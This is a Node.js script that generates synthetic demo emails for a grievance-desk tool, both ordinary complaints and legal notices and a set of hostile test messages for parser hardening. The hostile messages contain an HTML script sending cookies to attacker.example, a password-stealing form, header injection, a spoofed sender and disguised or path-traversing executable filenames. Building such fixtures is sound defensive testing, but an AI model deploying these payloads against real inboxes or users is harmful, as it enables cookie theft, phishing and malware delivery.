#!/usr/bin/env node
// Writes those messages of resources/demo/mail that hold computed bytes: attachments, and the hostile ones. The same run
// always gives the same bytes. The other messages there are written by hand.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { crc32 } from 'node:zlib';

const foot = 'This is a synthetic sample message; every person, address and event in it is invented.';
const folder = fileURLToPath(new URL('../resources/demo/mail/', import.meta.url));

/** A message as latin1 text, so that any byte can be written; `utf8` turns readable text into it. */
const utf8 = (text) => Buffer.from(text, 'utf8').toString('latin1');
const base64 = (bytes) => Buffer.from(bytes).toString('base64').replace(/.{76}/g, '$&\r\n');
const word = (text) => `=?UTF-8?B?${Buffer.from(text, 'utf8').toString('base64')}?=`;
const lines = (...rows) => rows.join('\r\n');

function received(number, to, when) {
  return `Received: from mx.person.example (mx.person.example [198.51.100.${number}])\r\n\tby mx.${to} with ESMTPS id NIV${9_000 + number}SAMPLE;\r\n\t${when} (IST)`;
}

let count = 0;
/** The headers that every sample has; `drop` leaves some out by name. */
function headers({ from, to, subject, when, drop = [], more = [] }) {
  count += 1;
  const all = [
    received(count, to.split('@')[1], when),
    `From: ${from}`,
    `To: <${to}>`,
    `Subject: ${subject}`,
    `Date: ${when}`,
    `Message-ID: <sample-9${String(count).padStart(3, '0')}@person.example>`,
    'X-Nivaran-Sample: synthetic',
    'MIME-Version: 1.0',
    ...more,
  ];
  return all.filter((header) => !drop.includes(header.split(':')[0])).join('\r\n');
}

const plain = (text, charset = 'us-ascii') => `Content-Type: text/plain; charset=${charset}\r\n\r\n${text}\r\n\r\n-- \r\n${foot}\r\n`;

function attachment({ type, name, bytes, more = [] }) {
  const head = [`Content-Type: ${type}`, `Content-Disposition: attachment; ${name}`, 'Content-Transfer-Encoding: base64', ...more];
  return lines(...head, '', base64(bytes));
}

function multipart(boundary, parts, type = 'mixed') {
  const body = parts.map((part) => `--${boundary}\r\n${part}\r\n`).join('');
  return `Content-Type: multipart/${type}; boundary="${boundary}"\r\n\r\n${body}--${boundary}--\r\n`;
}

const message = (head, body) => Buffer.from(`${headers(head)}\r\n${body}`, 'latin1');

function pngChunk(type, data) {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const framed = Buffer.alloc(8 + body.length);
  framed.writeUInt32BE(data.length, 0);
  body.copy(framed, 4);
  framed.writeUInt32BE(crc32(body), 4 + body.length);
  return framed;
}

function adler32(bytes) {
  let [low, high] = [1, 0];
  for (const byte of bytes) {
    low = (low + byte) % 65_521;
    high = (high + low) % 65_521;
  }
  return ((high << 16) | low) >>> 0;
}

/** A grey square with a darker diagonal. The pixels are stored, not compressed: compressors differ between versions. */
export function greyPng(side) {
  const rows = Array.from({ length: side }, (_, y) => Buffer.from([0, ...Array.from({ length: side }, (_, x) => (x === y ? 96 : 192))]));
  const pixels = Buffer.concat(rows);
  const stored = Buffer.alloc(7 + pixels.length + 4);
  stored.set([0x78, 0x01, 0x01]);
  stored.writeUInt16LE(pixels.length, 3);
  stored.writeUInt16LE(~pixels.length & 0xffff, 5);
  pixels.copy(stored, 7);
  stored.writeUInt32BE(adler32(pixels), 7 + pixels.length);
  const size = Buffer.from([0, 0, 0, side, 0, 0, 0, side, 8, 0, 0, 0, 0]);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, pngChunk('IHDR', size), pngChunk('IDAT', stored), pngChunk('IEND', Buffer.alloc(0))]);
}

/** One page of text in a base font. */
export function textPdf(rows) {
  const shown = rows.map((row) => `(${row.replace(/[\\()]/g, '\\$&')}) Tj T*`).join('\n');
  const stream = `BT /F1 12 Tf 16 TL 60 780 Td\n${shown}\nET`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let pdf = '%PDF-1.4\n';
  const offsets = objects.map((object, index) => {
    const offset = pdf.length;
    pdf += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(offset).padStart(10, '0')} 00000 n \n`;
  });
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.join('')}`;
  return Buffer.from(`${pdf}${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${pdf.length}\n%%EOF\n`, 'latin1');
}

const morphedImage = () =>
  message(
    {
      from: '"M. Example" <m.example@person.example>',
      to: 'grievance@nojoto.example',
      subject: 'URGENT: morphed nude picture of me',
      when: 'Fri, 20 Nov 2026 22:14:09 +0530',
    },
    multipart('sample-mixed-1', [
      plain(
        lines(
          'My face has been put on a nude body and posted as a video cover:',
          '',
          'https://nojoto.example/video/4001',
          'https://nojoto.example/user/sample-uploader',
          '',
          'I am the person in the picture and I never agreed to this. It is being shared in my college.',
          'Please take it down at once. The attached square stands for the screenshot.',
          '',
          'M. Example, +91 00000 00000',
        ),
      ),
      attachment({ type: 'image/png', name: 'filename="screenshot.png"', bytes: greyPng(24) }),
    ]),
  );

const consumerRefund = () =>
  message(
    {
      from: '"P. Placeholder" <p.placeholder@person.example>',
      to: 'hello@alokin.example',
      subject: 'Charged twice for the yearly plan - refund',
      when: 'Thu, 19 Nov 2026 10:08:00 +0530',
    },
    multipart('sample-mixed-2', [
      plain(
        lines(
          'Dear team,',
          '',
          'On 2 November I was charged twice for the yearly plan: Rs 4,999 each, order numbers EX-1000 and EX-1001.',
          'Your chat promised a refund within five days. It is the nineteenth now and nothing has come. Please refund one charge.',
          '',
          'The invoice is attached.',
          '',
          'P. Placeholder, +91 00000 00000',
        ),
      ),
      attachment({
        type: 'application/pdf',
        name: 'filename="invoice-EX-1001.pdf"',
        bytes: textPdf(['Invoice EX-1001 (synthetic sample)', 'Yearly plan: Rs 4,999', foot]),
      }),
    ]),
  );

const policeNotice = () =>
  message(
    {
      from: '"Sub-Inspector Q. Sample" <cyber.ps@police.example>',
      to: 'grievance@instaconnect.example',
      subject: 'Notice under section 94 BNSS: subscriber details (sample)',
      when: 'Thu, 19 Nov 2026 12:30:00 +0530',
    },
    multipart('sample-mixed-3', [
      plain(
        lines(
          'To the Grievance Officer, InstaConnect',
          '',
          'Please find attached a notice under section 94 of the Bharatiya Nagarik Suraksha Sanhita, 2023, in FIR no. 001/2026',
          'of Cyber Crime Police Station, Example City. The registration details and the login IP addresses of the last 30 days',
          'of the number +91 00000 00000 are required for the investigation of an offence of cheating by impersonation.',
          '',
          'Q. Sample, Sub-Inspector of Police',
        ),
      ),
      attachment({
        type: 'application/pdf',
        name: 'filename="notice-s94.pdf"',
        bytes: textPdf(['Notice under section 94 BNSS (synthetic sample)', 'FIR no. 001/2026, Example City', foot]),
      }),
    ]),
  );

const courtSummons = () =>
  message(
    {
      from: '"Office of the Civil Judge (sample)" <registry@court.example>',
      to: 'grievance@nojoto.example',
      subject: 'Summons in C.S. 000/2026: production of documents by 4 December 2026',
      when: 'Thu, 19 Nov 2026 16:00:00 +0530',
    },
    multipart('sample-mixed-4', [
      plain(
        lines(
          'In the Court of the Civil Judge, Example Nagar (sample)',
          'C.S. no. 000/2026, A. Example v. S. Specimen',
          '',
          'You are summoned to produce, on or before 4 December 2026, the upload record of https://nojoto.example/video/3001',
          'and the registration details of its uploader. The sealed order is attached.',
          '',
          'By order of the court',
        ),
      ),
      attachment({
        type: 'application/pdf',
        name: `filename*=UTF-8''${encodeURIComponent('समन 000-2026.pdf')}`,
        bytes: textPdf(['Summons, C.S. 000/2026 (synthetic sample)', 'Produce by 4 December 2026', foot]),
      }),
    ]),
  );

const forwardedComplaint = () =>
  message(
    {
      from: '"Customer care (sample)" <care@socnect.example>',
      to: 'legal@socnect.example',
      subject: 'FW: this came to customer care',
      when: 'Fri, 20 Nov 2026 17:31:00 +0530',
    },
    multipart('sample-mixed-5', [
      plain('The message attached came to customer care by mistake. Please take it from here.'),
      lines(
        'Content-Type: message/rfc822',
        '',
        'From: "R. Placeholder" <r.placeholder@person.example>',
        'To: <care@socnect.example>',
        'Subject: Wrong person in my alerts',
        'Date: Wed, 18 Nov 2026 19:02:00 +0530',
        'X-Nivaran-Sample: synthetic',
        '',
        'I get alerts that are meant for somebody else. Please correct my number.',
        '',
        '-- ',
        foot,
      ),
    ]),
  );

/** Messages that a desk gets on ordinary days, with attachments. */
function ordinary() {
  count = 0;
  return {
    'morphed-image.eml': morphedImage(),
    'consumer-refund.eml': consumerRefund(),
    'police-notice.eml': policeNotice(),
    'court-summons.eml': courtSummons(),
    'forwarded-complaint.eml': forwardedComplaint(),
  };
}

const attacker = '"Mallory Sample" <mallory@attacker.example>';
const hindiComplaint = 'मेरी पोस्ट बिना कारण हटा दी गई। कृपया कारण बताएँ और उसे वापस लाएँ।';

/** One hostile sample: the same headers but for what is odd about it. */
const hostile = (subject, body, more = {}) =>
  message({ from: attacker, to: 'grievance@cocial.example', subject, when: 'Fri, 20 Nov 2026 23:30:00 +0530', ...more }, body);

function nested(levels) {
  let body = plain('The text lies at the bottom.');
  for (let level = levels; level > 0; level -= 1) body = multipart(`level-${level}`, [body]);
  return body;
}

const withFile = (name, type = 'application/octet-stream', bytes = Buffer.from('These bytes are no program.\n')) =>
  multipart('sample-file', [plain('See the file.'), attachment({ type, name, bytes })]);

function hostileHtml() {
  const html = lines(
    '<html><head><meta http-equiv="refresh" content="0;url=https://attacker.example/"><base href="https://attacker.example/">',
    '<title>not shown</title><script>fetch("https://attacker.example/" + document.cookie)</script>',
    '<style>@import url("https://attacker.example/a.css"); body { background: url(https://attacker.example/b.png) }</style></head>',
    '<body onload="alert(1)"><p>Please remove <a href="javascript:alert(2)">this post</a>: https://cocial.example/post/5001</p>',
    '<img src="https://attacker.example/pixel.png" onerror="alert(3)" alt="a picture"><iframe src="https://attacker.example/frame"></iframe>',
    '<form action="https://attacker.example/steal"><input name="password"></form><svg onload="alert(4)"><text>not shown either</text></svg>',
    `<p>${foot}</p></body></html>`,
    '',
  );
  return `Content-Type: text/html; charset=us-ascii\r\n\r\n${html}`;
}

/** Messages made to break a reader. */
function attacks() {
  count = 100;
  const manyParts = Array.from({ length: 1_500 }, (_, index) => `Content-Type: text/plain\r\n\r\npart ${index + 1}\r\n`);
  return {
    'hostile-bad-boundary.eml': hostile(
      'Parts that never begin',
      multipart('one', [plain('The marks between the parts are others than announced.')]).replace('boundary="one"', 'boundary="two"'),
    ),
    'hostile-wrong-charset.eml': hostile('Hindi under a false label', plain(utf8(hindiComplaint), 'windows-1252')),
    'hostile-base64-garbage.eml': hostile(
      'Not base64 at all',
      multipart('sample-garbage', [
        lines(
          'Content-Type: text/plain; charset=utf-8',
          'Content-Transfer-Encoding: base64',
          '',
          '!!!! //// ???? \u00ff\u00fe ==A==B== //79/P37+v',
          '=',
        ),
        plain('The part above is garbage.'),
      ]),
    ),
    'hostile-long-line.eml': hostile('One line of 300 KB', plain('long '.repeat(60_000))),
    'hostile-html.eml': hostile('HTML that wants to run', hostileHtml()),
    'hostile-header-injection.eml': hostile(
      word('Complaint\r\nBcc: victim@person.example\r\n\r\nInjected body'),
      plain('The subject holds line ends in disguise.'),
    ),
    'hostile-spoofed-sender.eml': hostile('Who is this?', plain('The name of the sender shows the address of the desk.'), {
      from: '"grievance@cocial.example" <mallory@attacker.example>',
    }),
    'hostile-path-name.eml': hostile('A name with a path', withFile('filename="../../evil.exe"')),
    'hostile-double-ending.eml': hostile('Invoice', withFile('filename="invoice.pdf.exe"', 'application/pdf')),
    'hostile-reversed-name.eml': hostile('Invoice again', withFile(`filename*=UTF-8''${encodeURIComponent('invoice\u202efdp.exe')}`)),
    'hostile-deep-nesting.eml': hostile('Eighty boxes in a box', nested(80)),
    'hostile-many-parts.eml': hostile('Fifteen hundred parts', multipart('many', [...manyParts, plain('The end.')])),
    'hostile-future-date.eml': hostile('From the year 2099', plain('All times in this message lie in the future.'), {
      when: 'Mon, 16 Nov 2099 10:00:00 +0530',
    }),
    'hostile-no-date.eml': hostile('No time anywhere', plain('Neither a Received nor a Date header.'), { drop: ['Received', 'Date'] }),
    'hostile-empty-body.eml': hostile('Nothing inside', ''),
    'hostile-null-bytes.eml': hostile('Null\u0000bytes', plain('Null \u0000 bytes \u0000\u0001 and other control characters \u0007.')),
    'hostile-winmail.eml': hostile(
      'Sent from Outlook',
      withFile('filename="winmail.dat"', 'application/ms-tnef', Buffer.from([0x78, 0x9f, 0x3e, 0x22, 1, 0, 0, 0])),
    ),
  };
}

/** All messages that this tool writes: file name to bytes. */
export function demoMail() {
  return { ...ordinary(), ...attacks() };
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  mkdirSync(folder, { recursive: true });
  const made = Object.entries(demoMail());
  for (const [name, bytes] of made) writeFileSync(join(folder, name), bytes);
  console.log(`${made.length} messages written.`);
}
